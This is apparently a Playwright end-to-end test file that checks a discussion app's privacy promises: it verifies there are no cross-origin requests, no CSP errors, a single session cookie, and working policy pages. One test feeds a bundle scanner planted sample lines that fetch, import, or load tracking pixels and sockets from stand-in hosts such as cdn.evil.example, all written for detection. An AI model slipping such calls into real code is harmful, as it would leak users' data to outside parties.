/**
 * The privacy promises as a browser sees them: pages load nothing from
 * another origin and break no Content-Security-Policy rule (P1), the built
 * bundle names no foreign origin it could load from, the session cookie is the
 * only cookie (P13), and the policy, third-parties page and policy-change
 * notice work (P3, P16).
 */
import { expect } from 'chai';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { SESSION_COOKIE } from '../../server/src/auth/session-token.js';
import { PolicyVersionModel } from '../../server/src/models/policy-version.js';
import { UserModel } from '../../server/src/models/user.js';
import { repoRoot } from '../../server/src/web/client.js';
import {
  addMember,
  buildDiscussion,
  buildGroup,
  buildUser,
  TEST_PASSWORD,
} from '../../server/src/test/factories.js';
import { loadableUrls } from './bundle-origins.js';
import { startE2E, type E2E } from './harness.js';

/** Every request and socket a page opens, and every CSP violation or page error it reports. */
function record(page: Page) {
  const urls: string[] = [];
  const problems: string[] = [];
  page.on('request', (request) => urls.push(request.url()));
  page.on('websocket', (socket) => urls.push(socket.url()));
  page.on('console', (message) => {
    // A visitor's `GET /api/me` is answered 401 by design; every other error counts.
    const text = message.text();
    if (message.type() === 'error' && !/status of 401 \(Unauthorized\)/.test(text))
      problems.push(text);
  });
  page.on('pageerror', (error) => problems.push(error.message));
  return { urls, problems };
}

describe('web client: privacy (Chromium)', function () {
  this.timeout(90_000);
  let e2e: E2E;
  before(async function () {
    e2e = await startE2E(this);
  });
  after(async () => {
    await e2e?.close();
  });

  it('P1: served pages load nothing from another origin', async () => {
    const origin = new URL(e2e.app.url);
    const user = await buildUser({ name: 'Mira Okafor', email: 'mira@example.org' });
    const group = await buildGroup({ name: 'Tenants Union', handle: 'tenants-union' });
    await addMember(group, user);
    const discussion = await buildDiscussion({ group, title: 'Heating repairs' });

    const page = await e2e.open();
    const seen = record(page);
    await page.goto('/');
    await page.getByRole('heading', { name: 'Discuss and decide together, live.' }).waitFor();
    await page.getByTestId('connection').filter({ hasText: 'Live' }).waitFor();
    await page.goto('/signin');
    await page.getByLabel('Email').fill('mira@example.org');
    await page.getByLabel('Password').fill(TEST_PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Inbox' }).waitFor();
    await page.goto('/g/tenants-union');
    await page.getByRole('heading', { level: 1, name: 'Tenants Union' }).waitFor();
    await page.goto(`/d/${String(discussion._id)}`);
    await page.getByRole('heading', { level: 1, name: 'Heating repairs' }).waitFor();
    await page.getByTestId('connection').filter({ hasText: 'Live' }).waitFor();
    await page.goto('/privacy');
    await page.getByRole('heading', { level: 1, name: 'Privacy policy' }).waitFor();

    expect(seen.urls.length).to.be.greaterThan(10);
    const foreign = seen.urls.filter((url) => {
      const u = new URL(url);
      if (u.protocol === 'data:') return false;
      return u.hostname !== origin.hostname || u.port !== origin.port;
    });
    expect(foreign, 'requests to another origin').to.deep.equal([]);
    expect(seen.urls.some((url) => url.startsWith('ws://'))).to.equal(true);
    expect(seen.problems, 'console errors (CSP violations included)').to.deep.equal([]);

    // The session cookie is the only cookie.
    const cookies = await page.context().cookies();
    expect(cookies.map((c) => c.name)).to.deep.equal([SESSION_COOKIE]);
    expect(cookies[0].httpOnly).to.equal(true);
    expect(cookies[0].sameSite).to.equal('Lax');
  });

  it('P1: the built bundle references no origin it could load from', async () => {
    const dist = path.join(repoRoot(), 'web', 'dist');
    const files: string[] = [];
    const walk = async (dir: string) => {
      for (const entry of await readdir(dir, { withFileTypes: true })) {
        const full = path.join(dir, entry.name);
        if (entry.isDirectory()) await walk(full);
        // Source maps are read by developer tools only, never loaded by the page.
        else if (!entry.name.endsWith('.map')) files.push(full);
      }
    };
    await walk(dist);
    expect(files.some((f) => f.endsWith('.js'))).to.equal(true);
    const offending: string[] = [];
    for (const file of files) {
      const text = await readFile(file, 'utf8');
      for (const url of loadableUrls(file, text)) offending.push(`${path.basename(file)}: ${url}`);
    }
    expect(offending).to.deep.equal([]);
  });

  it('P1: the bundle scan tells a load from another origin from a link in a message', () => {
    const inert = [
      'throw Error(`Only non-generatable nodes (a) (see https://prosemirror.net/docs/guide/#x)`)',
      'console.error("Yjs was already imported. - https://github.com/yjs/yjs/issues/438")',
      "console.warn('Read more: https://tiptap.dev/api/extensions/collaboration-caret')",
      'e.setAttributeNS("http://www.w3.org/1999/xlink",t,n)',
    ];
    for (const code of inert) expect(loadableUrls('index-x.js', code), code).to.deep.equal([]);
    const planted = [
      'fetch("https://cdn.evil.example/x.json")',
      'import(`https://cdn.evil.example/${name}.js`)',
      "new URL(' https://cdn.evil.example/a')",
      'new WebSocket("wss://relay.evil.example/socket")',
      'new EventSource("Read more: "+"https://cdn.evil.example/feed")',
      "e.src='https://pixel.evil.example/p.gif'",
      'let u = `https://cdn.evil.example/a`, v = "see " + u',
      "fetch(`${x}`, { referrer: 'https://evil.example/' })",
    ];
    for (const code of planted) expect(loadableUrls('index-x.js', code), code).to.have.length(1);
    expect(
      loadableUrls('index-x.css', 'a{background:url(https://cdn.evil.example/a.png)}'),
    ).to.have.length(1);
    expect(
      loadableUrls('index.html', '<a href="https://cdn.evil.example/">see https://x.example</a>'),
    ).to.have.length(2);
  });

  it('renders the policy and the third parties, linked from every page footer', async () => {
    const page = await e2e.open();
    const seen = record(page);
    await page.goto('/groups');
    const footer = page.getByRole('navigation', { name: 'Privacy' });
    await footer.getByRole('link', { name: 'Privacy policy' }).click();
    await page.getByRole('heading', { level: 1, name: 'Privacy policy' }).waitFor();
    await page.getByText('Version 2026-12-06').waitFor();
    await page.getByRole('heading', { level: 2, name: 'govt.loomio.nz Privacy Policy' }).waitFor();
    await page.getByRole('heading', { level: 3, name: 'Cookies' }).waitFor();
    // In-app links stay in the app.
    const personal = page.getByRole('link', { name: 'personal data page' });
    expect(await personal.getAttribute('href')).to.equal('/personal-data');
    expect(await footer.getByRole('link', { name: 'Your personal data' }).count()).to.equal(0);
    await e2e.screenshot(page, 'privacy-policy');

    await footer.getByRole('link', { name: 'Third parties' }).click();
    await page.getByRole('heading', { level: 1, name: 'Third parties' }).waitFor();
    await page.getByRole('heading', { level: 2, name: 'None' }).waitFor();
    await e2e.screenshot(page, 'third-parties');
    expect(seen.problems).to.deep.equal([]);
  });

  it('P16: shows a changed policy’s notice once, until dismissed', async () => {
    const user = await buildUser({ name: 'Old Timer' });
    await UserModel.collection.updateOne(
      { _id: user._id },
      { $set: { createdAt: new Date(Date.now() - 86_400_000) } },
    );
    // As if the configured version had just replaced an earlier one.
    await PolicyVersionModel.updateMany(
      {},
      { $set: { announce: true, firstServedAt: new Date() } },
    );
    try {
      const page = await e2e.open(user, { width: 375, height: 740 });
      await page.goto('/groups');
      const notice = page.getByRole('complementary', { name: 'Privacy policy update' });
      await notice.waitFor();
      await notice.getByText('Our privacy policy has changed').waitFor();
      await page
        .getByRole('navigation', { name: 'Privacy' })
        .getByRole('link', {
          name: 'Your personal data',
        })
        .waitFor();
      await e2e.screenshot(page, 'policy-notice-mobile');
      await notice.getByRole('button', { name: 'Dismiss' }).click();
      await notice.waitFor({ state: 'detached' });
      await expectEventually(
        async () => (await UserModel.findById(user._id).lean())?.policyVersionSeen === '2026-12-06',
      );
      await page.reload();
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      await page.getByTestId('connection').filter({ hasText: 'Live' }).waitFor();
      expect(await notice.count()).to.equal(0);
    } finally {
      await PolicyVersionModel.updateMany({}, { $set: { announce: false } });
    }
  });
});

async function expectEventually(check: () => Promise<boolean>): Promise<void> {
  for (let i = 0; i < 100; i++) {
    if (await check()) return;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error('condition never held');
}
